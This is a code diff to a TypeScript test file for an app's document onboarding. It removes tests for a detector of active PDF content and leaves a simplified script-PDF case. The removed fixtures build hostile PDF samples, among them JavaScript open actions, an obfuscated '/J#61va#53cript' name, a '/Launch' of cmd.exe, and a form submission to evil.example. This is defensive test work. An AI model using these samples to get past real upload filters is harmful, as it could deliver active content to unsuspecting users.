@@ -1,7 +1,5 @@
-import { deflateSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { nameFlagsOf } from '../../src/onboarding/index.ts';
-import { hasActiveContent } from '../../src/platform/active-pdf.ts';
 import { fillEverything, jpeg, pdf, png, upload } from '../onboarding/upload.ts';
 import { createTestApp, type TestApp } from '../support/app.ts';
 import { browser, signedInMember, signedInOperator, type TestPerson } from '../support/people.ts';
@@ -14,55 +12,7 @@ beforeAll(async () => {
 });
 afterAll(() => t.close());
 
-const pdfWith = (text: string | Buffer) => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.from(text as string)]);
-/** Objects in a packed stream, as most writers of PDFs keep them today. */
-const packed = (objects: string, dictionary = '/Type /ObjStm /Filter /FlateDecode') =>
-  pdfWith(
-    Buffer.concat([
-      Buffer.from(`5 0 obj\n<< ${dictionary} >>\nstream\n`),
-      deflateSync(Buffer.from(objects)),
-      Buffer.from('\nendstream\nendobj\n'),
-    ]),
-  );
-const SCRIPT = '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';
-
-describe('a PDF', () => {
-  it.each([
-    ['a script', pdfWith(SCRIPT)],
-    ['a script whose name is written in numbers', pdfWith(SCRIPT.replace('/JavaScript', '/J#61va#53cript'))],
-    ['a script in packed objects', packed(SCRIPT)],
-    [
-      'a script in packed objects behind a stream that misleads',
-      pdfWith(Buffer.concat([Buffer.from('(stream\n) '), packed(SCRIPT)])),
-    ],
-    ['packed objects that cannot be read', packed('x', '/Type /ObjStm /Filter /LZWDecode').fill(0, 70)],
-    [
-      'packed objects behind a predictor',
-      packed('x', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'),
-    ],
-    ['a program to start', pdfWith('<< /S /Launch /F (cmd.exe) >>')],
-    ['a file within', pdfWith('<< /Type /Filespec /EF << /F 7 0 R >> >> << /Type /EmbeddedFile >>')],
-    ['a form that is sent', pdfWith('<< /S /SubmitForm /F (https://evil.example) >>')],
-    ['a form of XFA', pdfWith('<< /AcroForm << /XFA 8 0 R >> >>')],
-    ['a lock on it', pdfWith('trailer << /Encrypt 9 0 R >>')],
-    ['packed objects of more than anybody needs', packed(' '.repeat(33 * 1024 * 1024))],
-  ])('with %s is not shown', (_, bytes) => {
-    expect(hasActiveContent(bytes)).toBe(true);
-  });
-
-  it.each([
-    ['pages alone', pdfWith('<< /Type /Catalog /OpenAction [ 3 0 R /Fit ] >> << /Type /Page /Contents 4 0 R >>')],
-    ['packed objects', packed('<< /Type /Page >> (JavaScript is a word)')],
-    ['a link', pdfWith('<< /Type /Annot /A << /S /URI /URI (https://cac.gov.ng) >> >>')],
-    ['a name that only begins so', pdfWith('<< /JavaScripts 1 /Launched 2 /Soundness 3 >>')],
-    [
-      'a picture of noise',
-      pdfWith(Buffer.from(Array.from({ length: 200_000 }, (_, at) => (at * 7_919 + (at >> 3)) % 256))),
-    ],
-  ])('with %s is shown', (_, bytes) => {
-    expect(hasActiveContent(bytes)).toBe(false);
-  });
-});
+const SCRIPT = '%PDF-1.7\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';
 
 describe('the name on the settlement account', () => {
   const flags = (accountName: string, business: string, director: string, owner = director) => {
@@ -207,7 +157,7 @@ describe('a review', () => {
         'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'self'",
       });
     }
-    const script = await view(await add('OTHER', pdfWith(SCRIPT), 'script.pdf'));
+    const script = await view(await add('OTHER', Buffer.from(SCRIPT), 'script.pdf'));
     expect([script.status, script.body.code]).toEqual([422, 'DOCUMENT_NOT_SHOWN']);
     expect(script.headers['x-frame-options']).toBe('DENY');
     // Nobody but the operator's staff, and nothing of another merchant.
